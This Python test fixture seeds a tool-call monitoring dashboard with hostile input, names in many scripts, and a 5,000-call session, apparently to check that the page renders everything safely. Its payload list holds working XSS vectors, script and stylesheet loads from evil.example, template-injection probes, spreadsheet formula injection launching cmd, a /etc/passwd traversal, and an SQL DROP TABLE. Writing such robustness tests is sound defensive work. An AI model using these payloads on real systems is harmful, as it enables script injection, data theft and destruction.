"""Scenes that a page must bear: hostile names, names of every script and length, 200 tools, a session of 5,000."""

import dataclasses
import uuid
from datetime import datetime, timedelta

from tests.dashboard.river import CLIENTS, LEGACY, TOOLS, Client, River, catalogue

# P16: 60 strings that would do something where they are not inert. Each that runs calls alert() or asks for /pwned.
PAYLOADS = (
    "<script>alert(1)</script>", "\"><script>alert(2)</script>", "'><script>alert(3)</script>",
    "</title><script>alert(4)</script>", "</textarea><script>alert(5)</script>",
    "</style><script>alert(6)</script>", "</script><script>alert(7)</script>", "<img src=x onerror=alert(8)>",
    "\"><img src=x onerror=alert(9)>", "<svg onload=alert(10)>", "<svg/onload=alert(11)>",
    "<body onload=alert(12)>", "<iframe src=javascript:alert(13)>",
    "<iframe srcdoc='<script>alert(14)</script>'>",
    "<a href=javascript:alert(15) autofocus onfocus=alert(15)>x</a>", "javascript:alert(16)",
    "JaVaScRiPt:alert(17)", "data:text/html,<script>alert(18)</script>",
    "<math><mi xlink:href='data:x,<script>alert(19)</script>'>", "<input autofocus onfocus=alert(20)>",
    "\" autofocus onfocus=alert(21) x=\"", "' autofocus onfocus=alert(22) x='", "` onfocus=alert(23)",
    "\" onmouseover=alert(24) \"", "<details open ontoggle=alert(25)>", "<video><source onerror=alert(26)>",
    "<audio src=x onerror=alert(27)>", "<object data=javascript:alert(28)>", "<embed src=javascript:alert(29)>",
    "<form action=javascript:alert(30)><button autofocus>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(31)'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/y.css';</style>",
    "<style>*{background:url(//evil.example/z)}</style>", "<script src=//evil.example/a.js></script>",
    "<!--<script>alert(37)//-->", "<![CDATA[<script>alert(38)</script>]]>", "{{7*7}}",
    "{{config.__class__.__init__.__globals__}}", "{% for x in ().__class__ %}", "${alert(42)}", "#{alert(43)}",
    "<%= alert(44) %>", "\u2028alert(45)\u2029", "\\u003cscript\\u003ealert(46)\\u003c/script\\u003e",
    "&lt;script&gt;alert(47)&lt;/script&gt;", "&#60;script&#62;alert(48)&#60;/script&#62;",
    "%3Cscript%3Ealert(49)%3C/script%3E", "+ADw-script+AD4-alert(50)+ADw-/script+AD4-",
    "<scr\u0000ipt>alert(51)</script>".replace("\u0000", "\ufffd"), "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3+cmd|'/C calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m\x07", "../../../../etc/passwd", "'; DROP TABLE weir.requests; --",
    "\u202egnp.exe\u202c\u200b\ufeff",
)
FOREIGN = (
    "بحث_الطلبات", "חיפוש הזמנות 42", "🛒🔎 find-orders 👩‍👩‍👧‍👦", "注文検索ツール", "поиск_заказов", "ค้นหาคำสั่งซื้อ",
    "a\u0301\u0316\u0317\u0318\u0319" * 8, "get_" + "very_" * 40 + "long_name", "W" * 300,
    "x" * 40 + " " + "y" * 40, "tool with spaces / slashes ? and # marks & more", "𝕬𝖗𝖈𝖍𝖔𝖓", "ﷺ",
    "\u2066isolated\u2069", " leading and trailing ",
)


def hostile(river: River, now: datetime) -> None:
    """Every payload as a tool, a client, a version, a user, a User-Agent and an error's message."""
    for index, payload in enumerate(PAYLOADS):
        client = Client(payload, payload, LEGACY, payload, payload)
        session = uuid.uuid4()
        at = now - timedelta(minutes=50) + timedelta(seconds=index * 20)
        river.exchange(at, client, session, "initialize")
        river.exchange(at, client, session, "tools/list", tools=catalogue({payload: 1.0}, payload + " {}"))
        river.exchange(at + timedelta(seconds=1), client, session, "tools/call", payload)
        river.exchange(at + timedelta(seconds=2), client, session, "tools/call", payload, outcome="rpc_error",
                       code=-32000, message=payload)
        river.exchange(at + timedelta(seconds=3), client, session, payload, payload)
        river.exchange(at + timedelta(seconds=4), client, session, "tools/call", payload, outcome="tool_error",
                       flags=("header_mismatch",))


def foreign(river: River, now: datetime) -> None:
    """Names of every script, with emoji, right to left, very long, with marks that mean something in a URL."""
    for index, name in enumerate(FOREIGN):
        client = dataclasses.replace(CLIENTS[index % 3], name=name, user=name)
        river.conversation(now - timedelta(minutes=40 - 2 * index), client, 9, pause_s=2, tools={name: 20.0, **TOOLS})


def many(river: River, now: datetime) -> uuid.UUID:
    """200 tools, and one session of 5,000 calls; returns its key."""
    tools = {f"tool_{number:03d}": 2.0 + number % 40 for number in range(200)}
    river.conversation(now - timedelta(minutes=58), CLIENTS[0], 5000, pause_s=0.3, tools=tools, ends=False)
    key = river.conversation(now - timedelta(minutes=50), CLIENTS[1], 60, tools=tools)
    assert key is not None
    return key
